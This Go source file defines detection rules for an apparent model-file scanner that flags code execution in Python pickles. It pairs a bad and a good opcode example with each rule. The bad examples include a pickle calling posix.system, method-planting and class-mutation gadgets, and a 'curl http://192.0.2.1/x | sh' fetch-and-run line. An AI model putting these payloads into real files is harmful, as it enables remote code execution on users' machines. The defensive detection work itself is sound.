package rules

import "github.com/modelaudit/action/audit"

const execution = "Code execution in pickles"

// executionRules: what loading a pickle runs.
func executionRules() []audit.Rule {
	return []audit.Rule{
		{
			ID: "MA101", Family: execution, Title: "call of a dangerous global", Severity: audit.Critical, CWE: "CWE-502", Since: since,
			Text:       "Opening the file calls a function or class that is known to run commands or code, to import or call what it is given, or to reach files or the network.",
			Why:        "The call happens while the file is being loaded, with the rights of whoever loads it and whatever the program does with the result. An attacker who can write one such call owns the machine.",
			Bad:        pickled("PROTO 2", `GLOBAL "posix" "system"`, `UNICODE "true"`, "TUPLE1", "REDUCE", "STOP"),
			Good:       pickled("PROTO 2", `GLOBAL "collections" "OrderedDict"`, "EMPTY_TUPLE", "REDUCE", "STOP"),
			References: []string{"https://docs.python.org/3/library/pickle.html", "CVE-2025-1716", "CVE-2025-32434", "CVE-2025-10157"},
		},
		{
			ID: "MA102", Family: execution, Title: "call of a global that is not on the list", Severity: audit.High, CWE: "CWE-502", Since: since,
			Text:       "Opening the file imports a name and calls it, and the name is not one of those known to be harmless.",
			Why:        "What the call does is unknown, and it is done while the file is being loaded. It may be your own code: if it was reviewed, name it under trust in the policy; the weights alone need none of it.",
			Bad:        pickled("PROTO 2", `GLOBAL "acme.models" "build"`, "EMPTY_TUPLE", "REDUCE", "STOP"),
			Good:       pickled("PROTO 2", `GLOBAL "collections" "OrderedDict"`, "EMPTY_TUPLE", "REDUCE", `UNICODE "epoch"`, "BININT1 3", "SETITEM", "STOP"),
			References: []string{"https://docs.python.org/3/library/pickle.html#restricting-globals", "https://docs.pytorch.org/docs/stable/notes/serialization.html#weights-only"},
		},
		{
			ID: "MA103", Family: execution, Title: "import of a global that is not on the list", Severity: audit.Medium, CWE: "CWE-502", Since: since,
			Text:       "Opening the file imports a module that is not known to be harmless, and does not call what it imports.",
			Why:        "Importing runs the module's code. What is imported may also be called later, by an opcode or by the program that asked for the object.",
			Bad:        pickled("PROTO 2", `GLOBAL "acme.models" "Net"`, "STOP"),
			Good:       pickled("PROTO 2", `GLOBAL "torch" "float32"`, "STOP"),
			References: []string{"https://docs.python.org/3/library/pickle.html#pickle.Unpickler.find_class"},
		},
		{
			ID: "MA104", Family: execution, Title: "listed global used in another way than listed", Severity: audit.High, CWE: "CWE-502", Since: since,
			Text:       "A name that is harmless in the way its library uses it is used in another way: with arguments or a state of another shape.",
			Why:        "Several library functions call, import or open what they are given, so the shape of the arguments is part of what makes them harmless.",
			Bad:        pickled("PROTO 2", `GLOBAL "collections" "OrderedDict"`, `UNICODE "text"`, "TUPLE1", "REDUCE", "STOP"),
			Good:       pickled("PROTO 2", `GLOBAL "collections" "OrderedDict"`, "EMPTY_LIST", "TUPLE1", "REDUCE", "STOP"),
			References: []string{"CVE-2026-24747"},
		},
		{
			ID: "MA105", Family: execution, Title: "callable or name that the file does not show", Severity: audit.High, CWE: "CWE-502", Since: since,
			Text:       "What would be imported or called is computed while loading, or stands in a registry of the loading process.",
			Why:        "It cannot be judged from the file, and no ordinary writer produces it. Computed names are a way around scanners that look for names. Where the text is plain to see, as in str(\"os\"), the finding says what is imported, and is critical for a known gadget.",
			Bad:        pickled("PROTO 4", "EXT1 240", "EMPTY_TUPLE", "REDUCE", "STOP"),
			Good:       pickled("PROTO 4", `SHORT_BINUNICODE "collections"`, `SHORT_BINUNICODE "OrderedDict"`, "STACK_GLOBAL", "EMPTY_TUPLE", "REDUCE", "STOP"),
			References: []string{"https://docs.python.org/3/library/copyreg.html"},
		},
		{
			ID: "MA106", Family: execution, Title: "method call on an object", Severity: audit.High, CWE: "CWE-502", Since: since,
			Text:       "APPEND, SETITEM, ADDITEMS and BUILD look a method up on the object that they change, and this object is neither an exact builtin nor of a listed class in its listed form.",
			Why:        "That is a call of code that the file can choose: a first BUILD plants a method (__setstate__, append, extend) in an object, and a second opcode calls it.",
			Bad:        pickled("PROTO 2", `GLOBAL "collections" "OrderedDict"`, "EMPTY_TUPLE", "REDUCE", "EMPTY_DICT", `UNICODE "__setstate__"`, "NONE", "SETITEM", "BUILD", "STOP"),
			Good:       pickled("PROTO 2", "EMPTY_DICT", `UNICODE "__setstate__"`, "NONE", "SETITEM", "STOP"),
			References: []string{"https://docs.python.org/3/library/pickle.html#object.__setstate__"},
		},
		{
			ID: "MA107", Family: execution, Title: "change of a class, function or module", Severity: audit.Critical, CWE: "CWE-915", Since: since,
			Text:       "BUILD or SETITEM changes an imported name itself, and not an object that the file made.",
			Why:        "The change holds for the whole process: a later, innocent-looking import or call gets what the file planted, in this file or in the program.",
			Bad:        pickled("PROTO 2", `GLOBAL "collections" "OrderedDict"`, "EMPTY_DICT", `UNICODE "copy"`, "NONE", "SETITEM", "BUILD", "STOP"),
			Good:       pickled("PROTO 2", `GLOBAL "collections" "OrderedDict"`, "EMPTY_TUPLE", "REDUCE", "EMPTY_DICT", `UNICODE "_metadata"`, "NONE", "SETITEM", "BUILD", "STOP"),
			References: []string{"https://cwe.mitre.org/data/definitions/915.html"},
		},
		{
			ID: "MA108", Family: execution, Title: "persistent id without a known meaning", Severity: audit.Medium, CWE: "CWE-502", Since: since,
			Text:       "The stream asks the loading program for an object by an id that is not a tensor storage of this container.",
			Why:        "What comes back is the program's business and cannot be judged here. Old files of whole torch modules have such ids: torch compares the class's source text and may write a patch file.",
			Bad:        pickled("PROTO 2", `UNICODE "an id"`, "BINPERSID", "STOP"),
			Good:       checkpoint(tensorOf(4)...),
			References: []string{"https://docs.python.org/3/library/pickle.html#persistence-of-external-objects"},
		},
		{
			ID: "MA109", Family: execution, Title: "out-of-band buffer", Severity: audit.Medium, CWE: "CWE-502", Since: since,
			Text:       "The stream takes bytes from buffers that are not part of the file.",
			Why:        "What the object is depends on who loads it, so that an audit of the file says little.",
			Bad:        pickled("PROTO 5", "NEXT_BUFFER", "STOP"),
			Good:       pickled("PROTO 5", `BYTEARRAY8 "bytes in the stream"`, "STOP"),
			References: []string{"https://peps.python.org/pep-0574/"},
		},
		{
			ID: "MA110", Family: execution, Title: "object of a class that is not on the list", Severity: audit.Medium, CWE: "CWE-502", Since: since,
			Text:       "Opening the file imports a class that is not known to be harmless, makes an object of it and gives it a state.",
			Why:        "It is most often somebody's own class, in a pickle of a whole model: importing it runs its module, and a __setstate__ of it runs with what the file says. Where the object stands beside the weights, convert the file: they need no class. Where it is the model, save its state_dict in its place. Or, if the class is yours and its code was reviewed, name it under trust in the policy.",
			Bad:        pickled("PROTO 2", `GLOBAL "acme.models" "Net"`, "EMPTY_TUPLE", "NEWOBJ", "EMPTY_DICT", `UNICODE "width"`, "BININT1 4", "SETITEM", "BUILD", "STOP"),
			Good:       pickled("PROTO 2", `GLOBAL "collections" "OrderedDict"`, "EMPTY_TUPLE", "REDUCE", `UNICODE "width"`, "BININT1 4", "SETITEM", "STOP"),
			References: []string{"https://docs.python.org/3/library/pickle.html#pickling-class-instances", "https://docs.pytorch.org/docs/stable/notes/serialization.html#weights-only"},
		},
		{
			ID: "MA111", Family: execution, Title: "carried source code that reaches outside", Severity: audit.High, CWE: "CWE-506", Since: since,
			Text:       "The file hands its loader the source code of a class or a module, and the code does what no model needs: it reaches the network, programs, credentials or other files.",
			Why:        "torch compares the source that an old file keeps with the installed one, and may write it to disk as a patch for somebody to apply; torch.package imports the modules that it finds in its archive. Texts that are no code of a loader are no evidence and are not looked at.",
			Bad:        pickled("PROTO 2", "MARK", `UNICODE "module"`, `GLOBAL "collections" "OrderedDict"`, `UNICODE "net.py"`, `UNICODE "import os\nos.system('curl http://192.0.2.1/x | sh')\n"`, "TUPLE", "BINPERSID", "STOP"),
			Good:       pickled("PROTO 2", "EMPTY_DICT", `UNICODE "notes"`, `UNICODE "import os\nos.system('curl http://192.0.2.1/x | sh')\n"`, "SETITEM", "STOP"),
			References: []string{"https://cwe.mitre.org/data/definitions/506.html"},
		},
		{
			ID: "MA112", Family: execution, Title: "file outside the model's directory", Severity: audit.High, CWE: "CWE-22", Since: since,
			Text:       "Opening the file makes the loader open another one, under a name that is more than a file name beside it: an absolute path, or one that leaves the directory.",
			Why:        "joblib before 0.10 kept arrays in .npy files beside the pickle, and every version still opens what the pickle names and unpickles the objects in it. What an audit of this file says holds only if that file is audited, too.",
			Bad:        pickled("PROTO 2", `GLOBAL "joblib.numpy_pickle" "NDArrayWrapper"`, "EMPTY_TUPLE", "NEWOBJ", "EMPTY_DICT", `UNICODE "filename"`, `UNICODE "../x.npy"`, "SETITEM", "BUILD", "STOP"),
			Good:       pickled("PROTO 2", "EMPTY_DICT", `UNICODE "filename"`, `UNICODE "../x.npy"`, "SETITEM", "STOP"),
			References: []string{"https://cwe.mitre.org/data/definitions/22.html", "https://joblib.readthedocs.io/en/stable/persistence.html"},
		},
	}
}
